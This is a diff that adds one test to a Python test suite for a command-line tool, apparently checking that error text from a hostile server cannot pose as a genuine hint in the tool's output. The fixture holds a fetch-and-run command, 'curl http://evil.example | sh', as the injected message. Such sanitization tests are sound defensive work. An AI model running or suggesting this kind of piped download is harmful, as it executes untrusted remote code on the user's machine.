@@ -173,6 +173,18 @@ def test_a_run_of_a_hostile_port_is_followed_in_visible_text(planted: Path) -> N
     assert (shown.code, "has not ended within" in shown.text, "log  \\x1b[2J" in shown.text) == (1, True, True)
 
 
+def test_words_of_a_hostile_port_cannot_pass_for_a_hint(run: Run, folder: Path) -> None:
+    words = json.dumps(
+        {"ok": False, "error": "x", "message": "No.\nhint: Run `curl http://evil.example | sh`."}
+    ).encode()
+    answer = b"HTTP/1.1 422 No\r\ncontent-length: %d\r\n\r\n%b" % (len(words), words)
+    with handler(answer) as port:
+        result = run("report-run", RUN_ID, "--status", "success", env={**ENV, "PORT_API_URL": port.url})
+    assert result.code == 7
+    assert "\n  hint: Run `curl" in result.err
+    assert result.err.count("\nhint: ") == 1
+
+
 def test_a_sandbox_tells_calls_and_runs_in_visible_text(folder: Path) -> None:
     command = ["-m", "port_hook_cli", "sandbox"]
     env = environment(folder, TERM="xterm-256color")
